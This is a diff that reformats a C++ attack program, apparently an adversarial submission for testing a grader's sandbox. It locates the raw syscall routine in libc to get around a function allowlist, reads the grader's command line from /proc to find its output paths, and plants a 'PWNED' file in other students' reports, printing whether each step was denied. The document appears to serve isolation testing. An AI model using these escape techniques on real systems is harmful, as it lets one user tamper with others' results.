@@ -29,15 +29,16 @@ using Syscall = long (*)(long, ...);
 Syscall find_syscall() {
     static const unsigned char prologue[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6, 0x48, 0x89, 0xca,
                                              0x4d, 0x89, 0xc2, 0x4d, 0x89, 0xc8, 0x4c, 0x8b, 0x4c, 0x24, 0x08};
-    const void* allowed[] = {reinterpret_cast<const void*>(&std::printf), reinterpret_cast<const void*>(&std::snprintf),
-                             reinterpret_cast<const void*>(&std::strlen), reinterpret_cast<const void*>(&std::strcmp),
-                             reinterpret_cast<const void*>(&std::fflush), reinterpret_cast<const void*>(&std::puts),
-                             reinterpret_cast<const void*>(&std::abort), reinterpret_cast<const void*>(&std::qsort),
-                             reinterpret_cast<const void*>(&std::strtol), reinterpret_cast<const void*>(&std::atoi),
-                             reinterpret_cast<const void*>(&std::rand), reinterpret_cast<const void*>(&std::perror),
-                             reinterpret_cast<const void*>(&std::setvbuf), reinterpret_cast<const void*>(&std::memcpy),
-                             reinterpret_cast<const void*>(&std::strtod), reinterpret_cast<const void*>(&std::getchar),
-                             reinterpret_cast<const void*>(&std::malloc), reinterpret_cast<const void*>(&std::free)};
+    const void* allowed[] = {
+        reinterpret_cast<const void*>(&std::printf),  reinterpret_cast<const void*>(&std::snprintf),
+        reinterpret_cast<const void*>(&std::strlen),  reinterpret_cast<const void*>(&std::strcmp),
+        reinterpret_cast<const void*>(&std::fflush),  reinterpret_cast<const void*>(&std::puts),
+        reinterpret_cast<const void*>(&std::abort),   reinterpret_cast<const void*>(&std::qsort),
+        reinterpret_cast<const void*>(&std::strtol),  reinterpret_cast<const void*>(&std::atoi),
+        reinterpret_cast<const void*>(&std::rand),    reinterpret_cast<const void*>(&std::perror),
+        reinterpret_cast<const void*>(&std::setvbuf), reinterpret_cast<const void*>(&std::memcpy),
+        reinterpret_cast<const void*>(&std::strtod),  reinterpret_cast<const void*>(&std::getchar),
+        reinterpret_cast<const void*>(&std::malloc),  reinterpret_cast<const void*>(&std::free)};
     const unsigned char* lo = static_cast<const unsigned char*>(allowed[0]);
     const unsigned char* hi = lo;
     for (const void* p : allowed) {
@@ -50,7 +51,8 @@ Syscall find_syscall() {
         return nullptr;
     }
     for (const unsigned char* b = lo; b + sizeof prologue < hi; ++b)
-        if (std::memcmp(b, prologue, sizeof prologue) == 0) return reinterpret_cast<Syscall>(const_cast<unsigned char*>(b));
+        if (std::memcmp(b, prologue, sizeof prologue) == 0)
+            return reinterpret_cast<Syscall>(const_cast<unsigned char*>(b));
     std::printf("attack: no syscall() among the %ld bytes of the C library searched\n", static_cast<long>(hi - lo));
     return nullptr;
 }
@@ -72,8 +74,10 @@ void proc_path(char* out, std::size_t size, const char* what) {
 }
 
 void report(const char* what, const char* path, long result) {
-    if (result < 0) std::printf("attack %s %s: denied (errno %ld)\n", what, path, -result);
-    else std::printf("attack %s %s: SUCCEEDED (%ld)\n", what, path, result);
+    if (result < 0)
+        std::printf("attack %s %s: denied (errno %ld)\n", what, path, -result);
+    else
+        std::printf("attack %s %s: SUCCEEDED (%ld)\n", what, path, result);
 }
 
 // The value after `option` in the NUL-separated command line, or "".
@@ -124,8 +128,10 @@ void attack_once() {
     std::snprintf(stolen, sizeof stolen, "%ld", grader);
     proc_path(path, sizeof path, stolen);
     const long length = read_file(path, cmdline, sizeof cmdline);
-    if (length > 0) std::printf("attack found the grader: %s (%ld bytes)\n", path, length);
-    else std::printf("attack found the grader: %s unreadable (errno %ld): guessing the paths\n", path, -length);
+    if (length > 0)
+        std::printf("attack found the grader: %s (%ld bytes)\n", path, length);
+    else
+        std::printf("attack found the grader: %s unreadable (errno %ld): guessing the paths\n", path, -length);
     option_value(cmdline, length > 0 ? length : 0, "--output", reports, sizeof reports);
     option_value(cmdline, length > 0 ? length : 0, "--submissions", submissions, sizeof submissions);
     const bool told = reports[0] == '/';
@@ -139,8 +145,8 @@ void attack_once() {
     report("read the batch's record", path, record);
     std::snprintf(path, sizeof path, "%s/PWNED-attacks_other_students", reports);
     if (told || record >= 0) {
-        const long fd = raw(kOpenat, kAtCwd, reinterpret_cast<long>(path), 01 | 0100 | 01000 /* O_WRONLY|O_CREAT|O_TRUNC */,
-                            0644);
+        const long fd =
+            raw(kOpenat, kAtCwd, reinterpret_cast<long>(path), 01 | 0100 | 01000 /* O_WRONLY|O_CREAT|O_TRUNC */, 0644);
         report("plant a file in the reports", path, fd);
         if (fd >= 0) {
             raw(kWrite, fd, reinterpret_cast<long>("planted\n"), 8);
